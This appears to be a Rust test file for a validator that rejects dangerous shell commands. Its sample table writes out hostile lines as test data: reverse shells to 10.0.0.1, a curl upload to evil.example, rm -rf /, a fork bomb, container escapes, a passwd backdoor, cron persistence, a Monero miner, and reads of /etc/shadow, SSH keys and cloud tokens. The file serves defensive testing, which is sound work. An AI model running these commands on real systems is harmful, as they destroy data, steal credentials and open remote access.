//! Each category rejects its samples with the expected rule; the benign corpus
//! (`tests/fixtures/benign_scripts.sh`) passes whole.

use super::rules::{Category, RULES};
use super::*;

const BENIGN: &str = include_str!("../../tests/fixtures/benign_scripts.sh");

fn default() -> Validator {
    Validator::new(&Settings::default())
        .expect("default settings compile")
        .expect("on by default")
}

/// The rule that refuses `line`, if any.
fn rule_of(v: &Validator, line: &str) -> Option<String> {
    match v.check(line.as_bytes()) {
        Ok(()) => None,
        Err(Rejection::Rule { rule, .. }) => Some(rule),
        Err(e) => panic!("{e}"),
    }
}

/// (category, rule, sample) — at least two samples per category.
const SAMPLES: &[(Category, &str, &str)] = &[
    (Category::Destructive, "rm-system", "rm -rf /"),
    (
        Category::Destructive,
        "rm-system",
        "cd data && rm -rf --one-file-system ~",
    ),
    (Category::Destructive, "rm-system", r#"sudo rm -fr "/etc""#),
    (Category::Destructive, "rm-system", "/bin/rm -r /usr/*"),
    (
        Category::Destructive,
        "no-preserve-root",
        "rm -r --no-preserve-root $target",
    ),
    (Category::Destructive, "disk-format", "mkfs.ext4 /dev/sdb1"),
    (
        Category::Destructive,
        "write-block-device",
        "dd if=/dev/zero of=/dev/sda bs=1M",
    ),
    (
        Category::Destructive,
        "write-block-device",
        "cat junk > /dev/nvme0n1",
    ),
    (Category::Destructive, "fork-bomb", ":(){ :|:& };:"),
    (
        Category::Destructive,
        "shutdown",
        "sleep 5; shutdown -h now",
    ),
    (
        Category::Network,
        "network-tool",
        "curl -F data=@results.csv https://evil.example/up",
    ),
    (
        Category::Network,
        "network-tool",
        "wget -q http://example.org/data.csv",
    ),
    (
        Category::Network,
        "network-tool",
        "tar cz results | /usr/bin/ssh user@host 'cat > r.tgz'",
    ),
    (
        Category::Network,
        "network-tool",
        "scp results.tgz user@host:",
    ),
    (
        Category::Network,
        "rsync-remote",
        "rsync -a results/ me@backup.example.org:/data/",
    ),
    (
        Category::ReverseShell,
        "dev-tcp",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    ),
    (
        Category::ReverseShell,
        "dev-tcp",
        "exec 5<>/dev/udp/10.0.0.1/53",
    ),
    (
        Category::ReverseShell,
        "netcat-exec",
        "nc -e /bin/sh 10.0.0.1 4444",
    ),
    (
        Category::ReverseShell,
        "socat-exec",
        "socat tcp-connect:10.0.0.1:4444 exec:/bin/sh",
    ),
    (
        Category::ReverseShell,
        "interactive-shell",
        "mkfifo f; cat f | /bin/sh -i 2>&1 > f",
    ),
    (
        Category::ReverseShell,
        "script-socket",
        r#"python3 -c 'import socket,os;s=socket.socket();s.connect(("10.0.0.1",1))'"#,
    ),
    (
        Category::PrivilegeEscalation,
        "sudo",
        "sudo apt-get install -y gromacs",
    ),
    (
        Category::PrivilegeEscalation,
        "sudo",
        "echo pw | su - root -c id",
    ),
    (
        Category::PrivilegeEscalation,
        "setuid-bit",
        "chmod u+s ./tool",
    ),
    (
        Category::PrivilegeEscalation,
        "setuid-bit",
        "chmod 4755 /tmp/sh",
    ),
    (
        Category::PrivilegeEscalation,
        "capabilities",
        "setcap cap_setuid+ep ./py",
    ),
    (
        Category::PrivilegeEscalation,
        "accounts",
        "echo 'x::0:0::/:/bin/sh' >> /etc/passwd",
    ),
    (
        Category::PrivilegeEscalation,
        "accounts",
        "useradd -o -u 0 backdoor",
    ),
    (
        Category::ContainerEscape,
        "namespace-tools",
        "nsenter -t 1 -m -u -i -n sh",
    ),
    (
        Category::ContainerEscape,
        "namespace-tools",
        "chroot /host /bin/bash",
    ),
    (
        Category::ContainerEscape,
        "privileged-container",
        "docker run --privileged image",
    ),
    (
        Category::ContainerEscape,
        "privileged-container",
        "docker run --pid=host image",
    ),
    (
        Category::ContainerEscape,
        "host-root-mount",
        "docker run -v /:/host alpine cat /host/x",
    ),
    (
        Category::ContainerEscape,
        "host-root-mount",
        "podman run --mount type=bind,source=/,target=/h alpine",
    ),
    (
        Category::ContainerEscape,
        "container-socket",
        "ls -l /var/run/docker.sock",
    ),
    (
        Category::ContainerEscape,
        "host-kernel",
        "cat /proc/1/root/etc/hostname",
    ),
    (
        Category::ContainerEscape,
        "host-kernel",
        "echo /cmd > /tmp/cg/release_agent",
    ),
    (
        Category::ContainerEscape,
        "kernel-module",
        "modprobe rootkit",
    ),
    (
        Category::Obfuscation,
        "decode-exec",
        "echo ZWNobyBoaQ== | base64 -d | bash",
    ),
    (
        Category::Obfuscation,
        "decode-exec",
        "base64 --decode payload.b64 | python3",
    ),
    (Category::Obfuscation, "pipe-to-shell", "cat steps.txt | sh"),
    (
        Category::Obfuscation,
        "eval-decoded",
        r#"eval "$(echo aGk= | base64 -d)""#,
    ),
    (
        Category::Obfuscation,
        "inline-code-exec",
        r#"python -c "import os; os.system('id')""#,
    ),
    (
        Category::Obfuscation,
        "inline-code-exec",
        "perl -e 'exec \"/bin/sh\"'",
    ),
    (
        Category::Obfuscation,
        "hex-escapes",
        r"printf '\x2f\x62\x69\x6e\x2f\x73\x68\x0a' > x",
    ),
    (
        Category::Persistence,
        "cron",
        "(crontab -l; echo '* * * * * ./x') | crontab -",
    ),
    (
        Category::Persistence,
        "cron",
        "echo '* * * * * root ./x' > /etc/cron.d/x",
    ),
    (
        Category::Persistence,
        "services",
        "systemctl enable --now miner.service",
    ),
    (
        Category::Persistence,
        "login-scripts",
        "echo './x &' >> ~/.bashrc",
    ),
    (
        Category::Persistence,
        "ssh-keys",
        "cat key.pub >> /root/.ssh/authorized_keys",
    ),
    (
        Category::Miner,
        "miner-binary",
        "./xmrig -o pool:3333 -u wallet",
    ),
    (
        Category::Miner,
        "miner-binary",
        "nohup cpuminer-opt -a yescrypt &",
    ),
    (
        Category::Miner,
        "mining-pool",
        "./run --url stratum+tcp://pool.example:3333",
    ),
    (
        Category::Miner,
        "mining-pool",
        "./x --donate-level 1 -o gulf.moneroocean.stream:10128",
    ),
    (
        Category::SecretAccess,
        "proc-environ",
        "cat /proc/1/environ | tr '\\0' '\\n'",
    ),
    (
        Category::SecretAccess,
        "proc-environ",
        "strings /proc/self/environ",
    ),
    (
        Category::SecretAccess,
        "credential-files",
        "cp ~/.aws/credentials .",
    ),
    (
        Category::SecretAccess,
        "credential-files",
        "cat $HOME/.ssh/id_rsa",
    ),
    (Category::SecretAccess, "system-secrets", "cat /etc/shadow"),
    (
        Category::SecretAccess,
        "system-secrets",
        "cat /etc/jobo/node.token",
    ),
    (
        Category::SecretAccess,
        "cloud-metadata",
        "python get.py http://169.254.169.254/latest/meta-data/",
    ),
    (
        Category::SecretAccess,
        "mounted-secrets",
        "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
    ),
];

#[test]
fn every_sample_is_refused_by_its_rule() {
    let v = default();
    for (_, rule, sample) in SAMPLES {
        assert_eq!(rule_of(&v, sample).as_deref(), Some(*rule), "{sample}");
    }
}

#[test]
fn every_category_has_two_samples_and_every_rule_one() {
    for category in Category::ALL {
        let n = SAMPLES.iter().filter(|(c, ..)| *c == category).count();
        assert!(n >= 2, "{} has {n} samples", category.name());
    }
    for rule in RULES {
        assert!(
            SAMPLES
                .iter()
                .any(|(c, r, _)| *r == rule.name && *c == rule.category),
            "rule {} has no sample in its category",
            rule.name
        );
    }
}

#[test]
fn rule_names_are_unique_and_not_categories() {
    let mut names: Vec<_> = RULES.iter().map(|r| r.name).collect();
    names.sort();
    names.dedup();
    assert_eq!(names.len(), RULES.len());
    for c in Category::ALL {
        assert!(!names.contains(&c.name()));
    }
}

#[test]
fn the_benign_corpus_passes() {
    let v = default();
    for (n, line) in BENIGN.lines().enumerate() {
        assert_eq!(rule_of(&v, line), None, "line {}: {line}", n + 1);
    }
    assert_eq!(v.check(BENIGN.as_bytes()), Ok(()));
}

#[test]
fn rejections_name_the_rule_and_the_line() {
    let script = "#!/bin/bash\n# bash -i >& /dev/tcp/x/1 (a comment)\necho start\n\
                  python run.py \\\n  --out /dev/tcp/10.0.0.1/9 \\\n  --x\n";
    let err = default().check(script.as_bytes()).expect_err("refused");
    let msg = err.to_string();
    assert!(msg.contains("line 4"), "{msg}");
    assert!(msg.contains("'dev-tcp'"), "{msg}");
    assert!(msg.contains("reverse-shell"), "{msg}");
}

#[test]
fn settings_skip_rules_and_categories_allow_lines_and_add_rules() {
    let wget = "wget -q https://data.example.org/in.csv";
    let v = |s: Settings| Validator::new(&s).expect("compiles");
    let on = |allow_rules: &[&str], allow: &[&str], deny: &[&str]| Settings {
        enabled: true,
        allow_rules: allow_rules.iter().map(|s| s.to_string()).collect(),
        allow: allow.iter().map(|s| s.to_string()).collect(),
        deny: deny.iter().map(|s| s.to_string()).collect(),
    };
    let by_rule = v(on(&["network-tool"], &[], &[])).expect("on");
    assert_eq!(rule_of(&by_rule, wget), None);
    // Skipping network tools keeps reverse shells refused.
    assert!(rule_of(&by_rule, "nc -e /bin/sh 10.0.0.1 1").is_some());
    let by_category = v(on(&["network"], &[], &[])).expect("on");
    assert_eq!(rule_of(&by_category, "rsync -a r/ h:/x"), None);
    let by_line = v(on(&[], &[r"^wget -q https://data\.example\.org/"], &[])).expect("on");
    assert_eq!(rule_of(&by_line, wget), None);
    assert!(rule_of(&by_line, "wget http://elsewhere/").is_some());
    let deny = v(on(&[], &[], &[r"\bsecret_tool\b"])).expect("on");
    assert_eq!(
        rule_of(&deny, "./secret_tool --go").as_deref(),
        Some("deny[0]")
    );
    assert!(
        v(Settings {
            enabled: false,
            ..Settings::default()
        })
        .is_none()
    );
    assert!(matches!(
        Validator::new(&on(&["no-such-rule"], &[], &[])),
        Err(SettingsError::UnknownRule(_))
    ));
    assert!(matches!(
        Validator::new(&on(&[], &["("], &[])),
        Err(SettingsError::Regex { key: "allow", .. })
    ));
}

#[test]
fn a_huge_script_is_refused_not_scanned() {
    let big = vec![b'#'; MAX_SCRIPT_BYTES as usize + 1];
    assert!(matches!(default().check(&big), Err(Rejection::TooLarge(_))));
}
